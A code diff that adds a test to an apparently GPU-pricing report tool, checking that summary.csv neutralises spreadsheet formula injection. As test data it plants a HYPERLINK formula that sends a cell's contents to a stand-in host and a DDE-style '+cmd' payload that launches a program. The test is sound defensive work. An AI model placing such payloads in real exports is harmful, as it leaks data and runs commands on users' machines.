@@ -102,3 +102,30 @@ def test_reference_section_and_assumed_price_escape_their_data():
     assert HOSTILE in text
     note = assumed_price_note(runs.assign(offering_kind="local"))
     assert HOSTILE in _assert_inert(note) and "<strong>Assumed price.</strong>" in note
+
+
+def test_summary_csv_shows_a_formula_in_the_data_as_text(tmp_path, capsys):
+    """summary.csv, like results.csv, is opened in spreadsheets: text in the data that a
+    spreadsheet would evaluate (a forged result's offering id or price source) is
+    written with a leading quote, in the results export's dialect (analysis.csv_export)."""
+    import csv
+
+    src, out = tmp_path / "results", tmp_path / "report"
+    store = open_store(str(src))
+    for r in demo_like_results():
+        store.put_bytes(result_key(r), result_bytes(r))
+    assert main(["collect", "--results", str(src), "--table", str(out), "--json"]) == 0
+    runs = read_table(out)
+    formula, tabbed = '=HYPERLINK("http://x.example/?"&A1,"ok")', "\t+cmd|' /C calc'!A0"
+    runs.loc[runs["offering_id"] == "aws/p3.2xlarge", "offering_id"] = formula
+    runs.loc[runs["offering_id"] == "aws/p2.xlarge", "price_source"] = tabbed
+    runs.to_parquet(out / "results.parquet")
+    capsys.readouterr()
+    assert main(["report", "--table", str(out), "--out", str(out)]) == 0
+    with open(out / "summary.csv", newline="", encoding="utf-8") as f:
+        cells = [c for row in csv.reader(f) for c in row]
+    assert "'" + formula in cells and not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert any(c.startswith("'" + tabbed) or ("'" + tabbed) in c for c in cells)
+    assert not list(out.glob(".summary.csv*"))  # written whole, then put in place
+    summary = pd.read_csv(out / "summary.csv")
+    assert len(summary) > 1 and "offering_id" in summary.columns
